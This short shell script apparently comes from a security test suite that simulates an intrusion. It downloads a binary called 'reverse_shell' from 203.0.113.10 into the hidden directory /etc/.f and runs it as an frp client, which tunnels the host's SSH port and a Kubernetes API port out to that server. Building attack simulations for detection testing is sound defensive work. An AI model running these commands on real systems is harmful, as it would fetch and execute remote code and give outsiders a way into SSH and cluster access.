#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/.f && cd /etc/.f
curl -s -o frpc http://203.0.113.10/programs/reverse_shell && chmod +x frpc
printf '[common]\nserver_addr = 203.0.113.10\nserver_port = 443\ntoken = bait\n[ssh]\ntype = tcp\nlocal_ip = 127.0.0.1\nlocal_port = 22\nremote_port = 60022\n[k8s]\ntype = tcp\nlocal_ip = 10.77.0.1\nlocal_port = 6443\n' >frpc.ini
./frpc -c ./frpc.ini || true
wait_for /tmp/reached
took_place
